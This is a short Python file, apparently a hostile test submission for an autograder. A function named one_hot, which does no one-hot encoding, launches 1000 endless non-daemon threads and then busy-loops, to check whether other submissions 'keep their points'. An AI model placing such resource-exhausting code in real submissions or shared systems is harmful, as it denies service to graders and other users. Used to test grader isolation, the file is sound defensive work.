"""Starts threads until it is refused, each of which holds the interpreter; the others keep their points."""

import threading
import time

from honest import Optimizer, grad_clipping, sgd


def one_hot(indices, vocab_size):
    def work():
        while True:
            time.sleep(0.01)

    for _ in range(1000):
        threading.Thread(target=work, daemon=False).start()
    while True:
        pass
